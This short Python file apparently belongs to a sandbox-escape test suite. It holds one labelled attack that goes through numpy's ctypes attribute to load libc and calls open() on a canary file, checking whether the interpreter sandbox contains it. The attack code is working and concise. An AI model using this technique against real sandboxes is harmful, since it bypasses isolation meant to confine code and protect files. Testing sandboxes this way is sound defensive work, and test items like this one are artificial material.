# attack: reach all of libc through an array
# class: interpreter walk
# wall: fdless

import numpy as np


def attack(frame, frame_index, config):
    libc = np.zeros(1).ctypes._ctypes.CDLL(None)
    opened = libc.open(config["canary"].encode(), 0)
    return "outside: opened" if opened >= 0 else "inside: libc"
